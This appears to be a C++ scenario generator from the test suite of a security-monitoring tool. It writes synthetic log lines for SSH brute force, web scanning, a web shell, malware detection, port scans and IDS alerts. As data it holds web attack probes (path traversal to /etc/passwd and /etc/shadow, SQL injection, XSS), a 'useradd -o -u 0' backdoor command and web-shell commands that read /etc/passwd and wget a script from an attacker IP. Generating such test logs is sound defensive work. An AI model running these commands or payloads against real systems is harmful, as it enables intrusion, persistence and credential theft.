// What goes wrong on the day. Each kind is one attack from its first knock to what it leaves behind, in the
// words the real programs use.

#include <map>
#include <stdexcept>

#include <fmt/format.h>

#include "tests/scenario/story.h"

namespace vigil::scenario {
namespace {

using std::chrono::milliseconds;

Moment begin_of(const Story& story, const Step& step) {
  return story.length() - std::chrono::duration_cast<Moment>(step.before_end);
}

/// Passwords are guessed over SSH until one fits; then sudo, and a second administrator for later.
/// Settings: from, tries, user (whose password falls), new_user.
void ssh_brute_force(Story& story, const Step& step) {
  static const std::vector<std::string> kGuesses = {"root",   "admin", "test",  "oracle",
                                                    "ubuntu", "pi",    "guest", "user"};
  const Host& host = story.scenario().host(step.host);
  Dice& dice = story.dice();
  const std::string from = step.get("from", "203.0.113.45"), user = step.get("user", "teacher01");
  const std::string added = step.get("new_user", "support");
  Moment at = begin_of(story, step);
  const auto sshd = [&] {
    return Prelude{.facility = 10, .severity = 6, .app = "sshd", .pid = dice.between(21000, 22000)};
  };
  for (int n = step.number("tries", 60); n > 0; --n) {
    const int port = dice.between(32768, 60999);
    const std::string guess = n <= 8 ? user : dice.pick(kGuesses);
    const bool known = guess == user || guess == "root";
    story.add(at, host, sshd(),
              fmt::format("Failed password for {}{} from {} port {} ssh2", known ? "" : "invalid user ",
                          guess, from, port));
    at += milliseconds(dice.between(900, 3200));
  }
  const Prelude last = sshd();
  story.add(at, host, last, fmt::format("Accepted password for {} from {} port 51122 ssh2", user, from));
  story.add(at + milliseconds(15), host, last,
            fmt::format("pam_unix(sshd:session): session opened for user {}(uid=1007) by (uid=0)", user));
  at += milliseconds(41'000);
  story.add(
      at, host, {.facility = 10, .severity = 5, .app = "sudo"},
      fmt::format("{:>9} : TTY=pts/1 ; PWD=/home/{} ; USER=root ; COMMAND=/usr/sbin/useradd -o -u 0 -m {}",
                  user, user, added));
  story.add(at + milliseconds(60), host, {.facility = 10, .severity = 6, .app = "useradd", .pid = 22107},
            fmt::format("new user: name={}, UID=0, GID=0, home=/home/{}, shell=/bin/bash, from=/dev/pts/1",
                        added, added));
  at += milliseconds(25'000);
  story.add(at, host, {.facility = 10, .severity = 5, .app = "passwd", .pid = 22119},
            fmt::format("pam_unix(passwd:chauthtok): password changed for {}", added));
}

/// A site is scanned, an upload form found, a web shell dropped and used.
/// Settings: from, probes, shell (path of what was dropped).
void web_shell(Story& story, const Step& step) {
  static const std::vector<std::string> kProbes = {
      "/wp-login.php",
      "/.env",
      "/.git/config",
      "/phpmyadmin/index.php",
      "/admin/config.php",
      "/index.php?page=../../../../etc/passwd",
      "/news.php?id=1%27%20UNION%20SELECT%201,username,password%20FROM%20users--%20-",
      "/news.php?id=1%20AND%20SLEEP(5)",
      "/cgi-bin/../../../../bin/sh",
      "/download.php?file=..%2f..%2f..%2fetc%2fshadow",
      "/search.php?q=%3Cscript%3Ealert(1)%3C/script%3E",
      "/backup.zip",
      "/server-status",
      "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php"};
  const Host& host = story.scenario().host(step.host);
  Dice& dice = story.dice();
  const std::string from = step.get("from", "198.51.100.77"), shell = step.get("shell", "/uploads/shell.php");
  const std::string agent = "Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:Port Check)";
  Moment at = begin_of(story, step);
  const auto request = [&](std::string_view method, std::string_view target, int status, long bytes,
                           std::string_view browser) {
    story.add(at, host, {.facility = 23, .severity = 6, .app = "nginx"},
              fmt::format(R"({} - - [{}] "{} {} HTTP/1.1" {} {} "-" "{}")", from, story.clf_time(at), method,
                          target, status, bytes, browser));
  };
  for (int n = step.number("probes", 90); n > 0; --n) {
    request("GET", dice.pick(kProbes), dice.chance(0.9) ? 404 : 403, 153, agent);
    at += milliseconds(dice.between(80, 900));
  }
  at += milliseconds(95'000);
  request("GET", "/upload.php", 200, 2210, "python-requests/2.31.0");
  at += milliseconds(7'000);
  request("POST", "/upload.php", 200, 187, "python-requests/2.31.0");
  for (const std::string_view command :
       {"id", "uname%20-a", "cat%20/etc/passwd", "wget%20http://198.51.100.77/x.sh%20-O%20/tmp/x.sh"}) {
    at += milliseconds(dice.between(4000, 22'000));
    request("GET", fmt::format("{}?cmd={}", shell, command), 200, dice.heavy(900), "curl/7.88.1");
  }
}

/// Defender finds something on a teacher's PC and the antivirus server reports it too, in Big5 as such
/// products do. Settings: user, file, threat, server (the host that speaks CEF).
void malware(Story& story, const Step& step) {
  const Host& host = story.scenario().host(step.host);
  const std::string user = step.get("user", "teacher05"),
                    threat = step.get("threat", "Trojan:Win32/Wacatac.B!ml");
  const std::string file = step.get("file", R"(C:\\Users\\teacher05\\Downloads\\invoice.exe)");
  const Moment at = begin_of(story, step);
  const auto defender = [&](Moment when, int id, std::string_view action) {
    story.add(
        when, host, {.facility = 1, .severity = 4, .app = "Microsoft-Windows-Windows-Defender", .pid = 3312},
        fmt::format(
            R"({{"EventTime":"{}","Hostname":"{}","Keywords":-9223372036854775808,"EventType":"WARNING",)"
            R"("SeverityValue":3,"EventID":{},"SourceName":"Microsoft-Windows-Windows Defender",)"
            R"("Channel":"Microsoft-Windows-Windows Defender/Operational","RecordNumber":{},"ProcessID":3312,)"
            R"("Threat Name":"{}","Severity Name":"Severe","Category Name":"Trojan","Path":"file:_{}",)"
            R"("Detection User":"SCHOOL\\{}","Action Name":"{}","Origin Name":"Internet"}})",
            story.plain_time(when), host.name, id, 1200 + id, threat, file, user, action));
  };
  defender(at, 1116, "Not Applicable");
  defender(at + milliseconds(2500), 1117, "Quarantine");
  if (!step.settings.contains("server")) return;
  // In CP950: 防毒, 發現惡意程式, 已隔離.
  story.add(at + milliseconds(9000), story.scenario().host(step.get("server", "")),
            {.facility = 16, .severity = 4},
            fmt::format("CEF:0|\xa8\xbe\xacr|Management "
                        "Server|14.0|AV:Detected|\xb5o\xb2{{\xb4\x63\xb7N\xb5{{\xa6\xa1|8|rt={} "
                        "dvchost={} dhost={} duser={} fname=invoice.exe filePath={} cn1Label=Result cn1=1 "
                        "act=Quarantine cs1Label=Malware cs1={} msg=\xa4w\xb9j\xc2\xf7",
                        story.epoch_ms(at + milliseconds(9000)), step.get("server", ""), host.name, user,
                        file, threat));
}

/// Somebody walks through the school's addresses and ports; the firewall denies it all.
/// Settings: from, ports (how many tries).
void port_scan(Story& story, const Step& step) {
  static const std::vector<int> kPorts = {21,   22,   23,   25,   80,   135,  139,  443,  445,  1433,
                                          1521, 3306, 3389, 5432, 5900, 6379, 8080, 9200, 27017};
  const Host& host = story.scenario().host(step.host);
  Dice& dice = story.dice();
  const std::string from = step.get("from", "192.0.2.99");
  Moment at = begin_of(story, step);
  for (int n = 0; n < step.number("ports", 240); ++n) {
    const std::string local = story.plain_time(at);
    story.add(at, host, {.facility = 23, .severity = 4},
              fmt::format(
                  R"(date={} time={} devname="{}" devid="FG100FTK00000001" eventtime={}000000 tz="+0800" )"
                  R"(logid="0000000014" type="traffic" subtype="local" level="warning" vd="root" srcip={} )"
                  R"(srcport={} srcintf="wan1" srcintfrole="wan" dstip=192.0.2.{} dstport={} dstintf="root" )"
                  R"(sessionid={} proto=6 action="deny" policyid=0 policytype="local-in-policy" )"
                  R"(service="tcp/{}" trandisp="noop" duration=0 sentbyte=0 rcvdbyte=0)",
                  local.substr(0, 10), local.substr(11), host.name, story.epoch_ms(at), from,
                  dice.between(40000, 60000), dice.between(241, 254),
                  kPorts[static_cast<std::size_t>(n) % kPorts.size()], dice.between(700'000'000, 799'999'999),
                  kPorts[static_cast<std::size_t>(n) % kPorts.size()]));
    at += milliseconds(dice.between(20, 400));
  }
}

/// The network sensor names what it saw. Settings: from, to, signature, id.
void sensor_alert(Story& story, const Step& step) {
  const Host& host = story.scenario().host(step.host);
  const Moment at = begin_of(story, step);
  story.add(
      at, host, {.facility = 16, .severity = 4, .app = "suricata", .pid = 5885},
      fmt::format(
          R"({{"timestamp":"{}","flow_id":{},"in_iface":"eth1","event_type":"alert","src_ip":"{}",)"
          R"("src_port":51544,"dest_ip":"{}","dest_port":80,"proto":"TCP","alert":{{"action":"allowed",)"
          R"("gid":1,"signature_id":{},"rev":3,"signature":"{}","category":"Web Application Attack",)"
          R"("severity":1}}}})",
          story.eve_time(at), static_cast<long long>(story.dice().next() >> 2U),
          step.get("from", "198.51.100.77"), step.get("to", "10.20.1.10"), step.get("id", "2100001"),
          step.get("signature", "WEB_SERVER PHP web shell command in URI")));
}

using Writer = void (*)(Story&, const Step&);
const std::map<std::string, Writer> kWriters = {{"ssh_brute_force", ssh_brute_force},
                                                {"web_shell", web_shell},
                                                {"malware", malware},
                                                {"port_scan", port_scan},
                                                {"sensor_alert", sensor_alert}};

}  // namespace

void write_step(Story& story, const Step& step) {
  const auto writer = kWriters.find(step.kind);
  if (writer == kWriters.end()) throw std::runtime_error(step.kind + ": no such kind of step");
  writer->second(story, step);
}

}  // namespace vigil::scenario
